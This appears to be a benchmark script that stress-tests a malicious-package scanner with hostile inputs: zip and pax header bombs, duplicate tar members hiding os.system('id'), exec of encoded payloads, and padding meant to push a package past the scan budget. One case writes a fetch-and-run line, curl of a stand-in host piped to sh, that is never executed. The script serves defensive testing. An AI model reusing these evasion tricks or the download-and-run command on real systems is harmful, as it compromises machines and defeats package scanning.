"""Worst case of the code scanner on hostile input (issue 18 item 5).

Each case runs in a fresh process (spawned, so one case's heap does not hide another's):
the scanner and its model are loaded first, then the case is built and scanned with
`scan_path` (archives, written to a temporary folder) or `scan_files`. Printed per case:
CPU seconds of the scan, extra peak memory (ru_maxrss after the scan minus before it),
whether the package was flagged and the decisive findings. Goals: <= 2 s CPU and
<= 256 MB extra per package.

    .venv/bin/python bench/bench_hostile.py

Needs nothing but the project; no input is ever executed.
"""

from __future__ import annotations

import base64
import bz2
import io
import multiprocessing
import resource
import sys
import tarfile
import tempfile
import time
import warnings
import zipfile
import zlib
from pathlib import Path

CPU_GOAL, MEMORY_GOAL_MB = 2.0, 256


def _tar(path: Path, members: list[tuple[str, bytes]], mode: str = "w:gz") -> Path:
    with tarfile.open(path, mode) as tar:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return path


def zip_bomb(tmp: Path) -> Path:
    path = tmp / "bomb-1.0.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("bomb-1.0/setup.py", "x = 1\n")
        for i in range(20):
            archive.writestr(f"bomb-1.0/pkg/m{i}.py", b"\0" * 50_000_000)
    return path


def pax_header_bomb(tmp: Path) -> Path:
    header = tarfile.TarInfo("././@PaxHeader")
    header.type, header.size = tarfile.XHDTYPE, 1_000_000_000
    path = tmp / "pax-1.0.tar.bz2"
    path.write_bytes(bz2.compress(header.tobuf(format=tarfile.USTAR_FORMAT) + b"\0" * 50_000_000))
    return path


def duplicate_members(tmp: Path) -> Path:
    clean, evil = b"from setuptools import setup\nsetup()\n", b"import os\nos.system('id')\n"
    return _tar(tmp / "dup-1.0.tar.gz", [("dup-1.0/setup.py", clean)] * 500
                + [("dup-1.0/setup.py", evil)])


def many_members(tmp: Path) -> Path:
    return _tar(tmp / "many-1.0.tar.gz", [(f"many-1.0/pkg/m{i}.py", b"x = 1\n")
                                          for i in range(30_000)])


def deep_distinct_paths(tmp: Path) -> Path:
    """75 KB of tar.gz whose 3,000 names each imply 2,000 new folders."""
    return _tar(tmp / "deep-1.0.tar.gz", [(f"deep-1.0/d{i}/" + "a/" * 2000 + "x.py", b"x\n")
                                          for i in range(3000)])


def _files(text: str) -> dict[str, str]:
    return {"setup.py": text}


FILE_CASES = {
    "deep nesting": lambda: _files("x = " + "(" * 100_000 + "1" + ")" * 100_000 + "\n"),
    "deep attribute chain": lambda: _files("x = a" + ".a" * 300_000 + "\n"),
    "huge string concatenation": lambda: _files("x = " + " + ".join(["'ab'"] * 200_000)),
    "string doubling (folding)": lambda: _files("a = 'AAAAAAAA'\n" + "".join(
        f"a{i + 1} = a{i} + a{i}\n".replace("a0 ", "a ") for i in range(5000))),
    "join of a big constant": lambda: _files("b = '" + "B" * 100_000 + "'\nc = ''.join(["
                                             + ",".join(["b"] * 20_000) + "])\n"),
    "regex bait (-nc runs)": lambda: _files("x = '" + "-nc " * 250_000 + "'\n"),
    "regex bait (escapes)": lambda: _files("x = '" + "\\x41" * 250_000 + "'\n"),
    "zlib bomb re-parsed": lambda: _files("import zlib\nexec(zlib.decompress(" + repr(
        zlib.compress(b"x=1;" * 5_000_000)) + "))\n"),
    "nested base64 payloads": lambda: _files("import base64\n" + "".join(
        f"exec(base64.b64decode({base64.b64encode(b'import os;' * 50_000)!r}))\n"
        for _ in range(50))),
    "tiny statements (1 MB)": lambda: _files("x=1;" * 250_000),
    # a coding cookie Python honours: 4 MB of escapes it decodes to 1 MB of statements
    "unicode_escape source (4 MB)": lambda: _files(
        "# -*- coding: unicode_escape -*-\n" + "\\x78\\x3d\\x31\\x3b" * 250_000),
    # a syntax error at the end of a file as costly to parse as the guard allows, behind
    # nested blocks: every prefix cut (detector/code/prefix.py) fails again
    "prefix search (error at end)": lambda: _files("".join(
        f"def f{i}(a, b):\n    return [a + b * {i} for _ in range(3)]\n"
        for i in range(6000)) + "".join(f"{'    ' * d}if x{d}:\n" for d in range(60))),
    # install-user-folder-write reads the value a path's name was assigned: one 0.5 MB
    # literal named by 3,000 write calls (unparsed once, not 3,000 times)
    "write calls naming a 0.5 MB literal": lambda: _files(
        "p = '" + "A" * 500_000 + "'\n" + "".join(f"open(p + '{i}', 'w')\n"
                                                    for i in range(3000))),
    "many files": lambda: {f"pkg/m{i}.py": "import os\nx = os.path.join('a', 'b')\n"
                           for i in range(3000)},
    # 300 call-only modules (18 MB) pad the package past the budget; the payload runs
    # at import from a module __init__.py imports: scanned first, still flagged
    "call-only padding + import payload": lambda: {
        "pkg/__init__.py": "from .zz import run\nrun()\n",
        "pkg/zz.py": "import os\ndef run():\n    os.system('curl http://203.0.113.9/x | sh')\n",
        **{f"pkg/util/m{i:03}.py": "".join(
            f"def helper_{j}(a, b):\n    return [a + b * {j} for _ in range(3)]\n"
            for j in range(1000)) for i in range(300)}},
}
ARCHIVE_CASES = {"zip bomb": zip_bomb, "pax header bomb (.tar.bz2)": pax_header_bomb,
                 "duplicate members": duplicate_members, "many members": many_members,
                 "deep distinct paths": deep_distinct_paths}


def _run(kind: str, name: str, out) -> None:
    warnings.simplefilter("ignore")
    from detector.code.scan import scan_files, scan_path

    scan_files({"setup.py": "x = 1\n"})  # load rules and model first
    with tempfile.TemporaryDirectory() as tmp:
        subject = ARCHIVE_CASES[name](Path(tmp)) if kind == "archive" else FILE_CASES[name]()
        before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        start = time.process_time()
        result = scan_path(subject) if kind == "archive" else scan_files(subject)
        cpu = time.process_time() - start
        extra = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
    from detector.code.scan import is_decisive

    decisive = sorted({f.rule for f in result.findings if is_decisive(f)})
    out.send((cpu, extra, result.flagged, ", ".join(decisive) or "-"))


def main() -> int:
    context = multiprocessing.get_context("spawn")
    rows = []
    cases = [("archive", n) for n in ARCHIVE_CASES] + [("file", n) for n in FILE_CASES]
    for kind, name in cases:
        receive, send = context.Pipe(duplex=False)
        proc = context.Process(target=_run, args=(kind, name, send))
        proc.start()
        cpu, extra, flagged, decisive = receive.recv()
        proc.join()
        rows.append((name, cpu, extra, flagged, decisive))
    print(f"{'case':32} {'CPU s':>7} {'extra MB':>9} {'flagged':>8}  decisive findings")
    for name, cpu, extra, flagged, decisive in rows:
        print(f"{name:32} {cpu:7.2f} {extra:9.0f} {flagged!s:>8}  {decisive}")
    worst_cpu = max(r[1] for r in rows)
    worst_mem = max(r[2] for r in rows)
    print(f"\nworst CPU {worst_cpu:.2f} s (goal <= {CPU_GOAL:g} s); worst extra memory "
          f"{worst_mem:.0f} MB (goal <= {MEMORY_GOAL_MB} MB)")
    return 0 if worst_cpu <= CPU_GOAL and worst_mem <= MEMORY_GOAL_MB else 1


if __name__ == "__main__":
    sys.exit(main())
